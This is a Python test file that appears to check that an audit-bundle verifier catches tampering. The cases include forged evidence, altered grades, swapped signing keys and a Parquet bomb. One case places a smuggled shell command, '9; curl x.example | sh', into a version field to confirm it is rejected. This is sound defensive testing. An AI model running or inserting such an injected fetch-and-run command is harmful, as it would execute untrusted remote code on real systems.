"""Bundles that somebody changed, manifests and all: the step that tells, and what it says."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from portalaudit.archive.copying import bodiless
from portalaudit.archive.members import walk
from portalaudit.archive.minisign import new_key, sign
from portalaudit.archive.records import sha256
from portalaudit.archive.snapshots import load, save
from portalaudit.audit.bundles import opened
from portalaudit.export.bundle.bag import SIGNATURE, TAGS
from tests.audit.verify.changes import (
    AUDIT,
    INPUTS,
    Files,
    added,
    another_body,
    another_body_well_told,
    better_grade,
    bomb,
    cut_segment,
    easier_rubric,
    fewer,
    forged_excerpt,
    in_json,
    is_catalogue,
    lost_record,
    lower_bar,
    no_parquet,
    older_choice,
    other_quote,
    other_values,
    record_twice,
    removed,
    the,
    without_finding,
)
from tests.bundles import Made, city_bundle, differing, files_of, first_difference, remade, steps, zipped

ALL = (
    "container", "version", "manifests", "signature", "records", "choices", "evidence", "snapshots", "captures", "checks",
    "rubrics", "files", "rereading",
)  # fmt: skip


@pytest.fixture(scope="module")
def made() -> Made:
    return city_bundle()


NOBODY = "00000000-0000-4000-8000-000000000000"
TAMPERED: dict[str, tuple[Callable[[Files], object], str, str]] = {
    "a count": (in_json(AUDIT, fewer), "checks", "/portals/0/checks/"),
    "a finding left out": (in_json(AUDIT, without_finding), "checks", "there, "),
    "an excerpt": (in_json(AUDIT, forged_excerpt), "evidence", "other words stand there"),
    "a quote of a policy": (in_json(AUDIT, other_quote), "evidence", "/quotes/0: capture"),
    "a grade": (in_json(AUDIT, better_grade), "rubrics", "/rubrics/0/criteria/"),
    "the name of the audit": (in_json(AUDIT, lambda document: document.update(audit="2020-0")), "choices", "of audit 2020-0"),
    "a body": (another_body, "records", "another digest than it tells"),
    "a body and its digest": (another_body_well_told, "rereading", "datasets"),
    "a record left out": (lost_record, "evidence", "which is not in the archive"),
    "a record twice": (record_twice, "records", "there twice"),
    "a segment cut": (cut_segment, "records", "cut off"),
    "a segment gone": (removed(r"-others\.warc\.gz$"), "evidence", "no segment holds"),
    "values of a snapshot": (other_values, "snapshots", "was changed"),
    "no Parquet": (no_parquet, "snapshots", "cannot be read"),
    "a bomb of Parquet": (bomb, "snapshots", "memory needed"),
    "a frame gone": (removed(r"/distributions\.parquet$"), "snapshots", "cannot be read"),
    "another's snapshot": (added(f"data/archive/snapshots/{'0' * 64}/meta.json"), "snapshots", "of no snapshot of this audit"),
    "a choice": (in_json(INPUTS, older_choice), "choices", "document seeds"),
    "the city": (in_json(INPUTS, lambda inputs: inputs["city"].update(name="Shelbyville")), "checks", "/target/name"),
    "traffic": (in_json(INPUTS, lambda inputs: inputs["portals"][0]["traffic"].update(requests=1)), "checks", "/requests"),
    "no inputs": (added(INPUTS), "records", "data/inputs.json is not of its form"),
    "inputs of another form": (in_json(INPUTS, lambda inputs: inputs.update(events=[7])), "records", "not of its form"),
    "a rubric": (lower_bar, "checks", "not rubric wwc-v3"),
    "a rubric gone": (removed(r"rubrics/wwc-v3"), "checks", "missing"),
    "a command in a version": (
        in_json(INPUTS, lambda inputs: inputs.update(exported_by="9; curl x.example | sh")), "records", "no version",
    ),
    "an easier rubric of the same name": (easier_rubric, "rubrics", "as it is installed here"),
    "what the bag is about": (
        lambda files: files.update({"bag-info.txt": files["bag-info.txt"].replace(b"Evidence", b"Proof")}), "files", "bag-info",
    ),
    "more of other audits": (
        in_json(INPUTS, lambda inputs: inputs.update(others=7_777)), "captures", "7,777 captures of other audits",
    ),
    "something that is missing": (
        in_json(INPUTS, lambda inputs: inputs["missing"].append(NOBODY)), "captures", f"{NOBODY}: told as missing",
    ),
    "the report": (lambda files: files.update({"data/report.html": b"<p>All is well"}), "files", "data/report.html"),
    "no report": (removed(r"report\.html$"), "files", "data/report.html: missing"),
    "no PDF": (removed(r"report\.pdf$"), "files", "data/report.pdf: missing"),
    "a PDF of nobody's": (in_json(INPUTS, lambda inputs: inputs["dress"].update(paper=False)), "files", "not made with this"),
    "the page on verifying": (lambda files: files.update({"data/VERIFY.md": b"Trust me"}), "files", "data/VERIFY.md"),
    "the crate's metadata": (in_json("data/ro-crate-metadata.json", lambda crate: crate["@graph"].pop()), "files", "ro-crate"),
    "what was submitted": (lambda files: files.update({the(files, "submitted/002"): b"other"}), "files", "submitted/002"),
    "more that was submitted": (added("data/submitted/003-forged.txt"), "files", "nothing in the bundle gives this file"),
    "a file of nothing": (added("data/more.txt"), "files", "no file of a bundle"),
    "a saved document": (added("data/saved.json"), "", ""),  # what it said then cannot be made again: only a signature tells
}  # fmt: skip


@pytest.mark.parametrize("name", [name for name, (_, step, _) in TAMPERED.items() if step])
def test_a_manifest_made_again_hides_nothing_from_the_replay(name: str, made: Made, tmp_path: Path) -> None:
    change, step, said = TAMPERED[name]
    files = files_of(made.path)
    change(files)

    found = first_difference(zipped(tmp_path / "b.zip", remade(files), made.top))

    assert found is not None
    assert (found.name, said in found.said) == (step, True), found


def test_a_folder_of_another_audit(made: Made, tmp_path: Path) -> None:
    found = first_difference(zipped(tmp_path / "b.zip", files_of(made.path), "portalaudit-20200101-00000000"))

    assert found is not None
    assert (found.name, "the folder is portalaudit-2020" in found.said) == ("choices", True)


def test_nor_from_the_signature(made: Made, tmp_path: Path) -> None:
    """The old signature does not fit manifests that were made again; without one the key that is asked for tells."""
    files = files_of(made.path)
    old = {name: files[name] for name in ("minisign.pub", SIGNATURE)}
    files["data/saved.json"] = b"{}"
    again = {**remade(files), SIGNATURE: old[SIGNATURE]}

    bare = first_difference(zipped(tmp_path / "bare.zip", remade(files), made.top), key=made.key.public)
    assert bare is not None
    assert (bare.name, "not signed" in bare.said) == ("signature", True)
    kept = first_difference(zipped(tmp_path / "kept.zip", again, made.top))
    assert kept is not None
    assert kept.name == "signature"


def test_a_signature_by_another_key(made: Made, tmp_path: Path) -> None:
    """It is whole by its own key, and refused where another is trusted."""
    other, files = new_key(), remade(files_of(made.path))
    files |= {"minisign.pub": other.public.file.encode()}
    files = _with_key(files)
    files[SIGNATURE] = sign(files[TAGS], other, "mine").encode()
    path = zipped(tmp_path / "b.zip", files, made.top)

    assert differing(steps(path)) == []
    found = steps(path, key=made.key.public)
    assert differing(found) == ["signature"]
    assert f"signed by key {other.public.name}, not by {made.key.public.name}" in found["signature"].said


def _with_key(files: Files) -> Files:
    """The list of tag files with the key's."""
    line = f"{sha256(files['minisign.pub'])}  minisign.pub\n".encode()
    lines = [*files[TAGS].splitlines(keepends=True), line]
    return {**files, TAGS: b"".join(sorted(lines, key=lambda one: one[66:]))}


def test_a_key_without_a_signature(made: Made, tmp_path: Path) -> None:
    files = files_of(made.path)
    del files[SIGNATURE]

    found = first_difference(zipped(tmp_path / "b.zip", files, made.top))
    assert found is not None
    assert found.name == "signature"


def test_the_right_key_is_taken(made: Made) -> None:
    found = steps(made.path, key=made.key.public)

    assert tuple(found) == ALL
    assert {step.outcome for step in found.values()} == {"good"}
    assert f"audit {made.audit} of " in found["signature"].said


def test_a_snapshot_that_does_not_come_from_the_archive(made: Made, tmp_path: Path) -> None:
    """It has a digest of its own, which all files tell, and its checks give what they say; read again it is another."""
    files = files_of(made.path)
    with opened(made.path) as bundle:
        (old,) = (portal.digest for portal in bundle.inputs.portals)
        snapshot = load(bundle.archive, old)
        titles = snapshot.datasets["title"].str.replace("Trees", "Shrubs")
        new = save(tmp_path, _with_titles(snapshot, titles))
    for name in [name for name in files if "/snapshots/" in name]:
        del files[name]
    for path in (tmp_path / "snapshots").rglob("*.*"):
        files[f"data/archive/{path.relative_to(tmp_path).as_posix()}"] = path.read_bytes()
    for name in (AUDIT, INPUTS):
        files[name] = files[name].replace(old.encode(), new.encode())

    found = steps(zipped(tmp_path / "b.zip", remade(files), made.top))
    assert found["snapshots"].outcome == "good"
    assert found["rereading"].outcome == "differs"
    assert "datasets, row" in found["rereading"].said and "Shrubs" in found["rereading"].said


def _with_titles(snapshot: Any, titles: Any) -> Any:
    from dataclasses import replace

    return replace(snapshot, datasets=snapshot.datasets.assign(title=titles.astype(snapshot.datasets["title"].dtype)))


@pytest.mark.parametrize("where", ["bag-info.txt", INPUTS])
def test_a_newer_version_is_no_tampering(where: str, made: Made, tmp_path: Path) -> None:
    files = files_of(made.path)
    files[where] = files[where].replace(b"Portalaudit-Bundle: 1", b"Portalaudit-Bundle: 2").replace(b'"bundle":1', b'"bundle":2')

    found = first_difference(zipped(tmp_path / "b.zip", remade(files), made.top))
    assert found is not None
    assert "a newer portalaudit is needed" in found.said
    assert found.name == ("version" if where == "bag-info.txt" else "records")


def test_a_bundle_of_another_software(made: Made, tmp_path: Path) -> None:
    """What it shows is the same, so that it is good; where it is not, the other software is named beside the difference. Pages
    that it may write otherwise pass only where somebody whom one trusts signed them, for anybody can claim another version."""
    files = files_of(made.path)
    other = {
        INPUTS: files[INPUTS].replace(b'"exported_by":"', b'"exported_by":"9.'),
        AUDIT: files[AUDIT].replace(b'"software":"', b'"software":"9.', 1),
    }
    said = "a difference may be the software's. Verify it with 9."
    page = {"data/report.html": b"All is well"}
    path = zipped(tmp_path / "a.zip", remade({**files, **other, **page}), made.top)
    found = steps(path)
    assert (differing(found), said in found["files"].said) == (["files"], True)

    signed = _with_key({**remade({**files, **other, **page}), "minisign.pub": made.key.public.file.encode()})
    signed[SIGNATURE] = sign(signed[TAGS], made.key, "theirs").encode()
    path = zipped(tmp_path / "b.zip", signed, made.top)
    assert differing(steps(path)) == ["files"]
    found = steps(path, key=made.key.public)
    assert (differing(found), found["files"].outcome) == ([], "seen")

    in_json(AUDIT, fewer)(other)
    first = first_difference(zipped(tmp_path / "c.zip", remade({**files, **other}), made.top), key=None)
    assert first is not None
    assert (first.name, said in first.said) == ("checks", True)


def test_withheld_bodies_are_those_that_are_told(made: Made, tmp_path: Path) -> None:
    """A body that is missing, and is not said to be withheld, is a difference."""
    files = files_of(made.path)
    name = the(files, r"-others\.warc\.gz$")
    path = tmp_path / "one.warc.gz"
    path.write_bytes(files[name])
    parts = []
    for one in walk(path):
        raw = files[name][one.offset : one.offset + one.length]
        parts.append(bodiless(one) if is_catalogue(one.start) else raw)
    files[name] = b"".join(parts)

    found = first_difference(zipped(tmp_path / "b.zip", remade(files), made.top))
    assert found is not None
    assert (found.name, "not told as withheld" in found.said) == ("records", True)
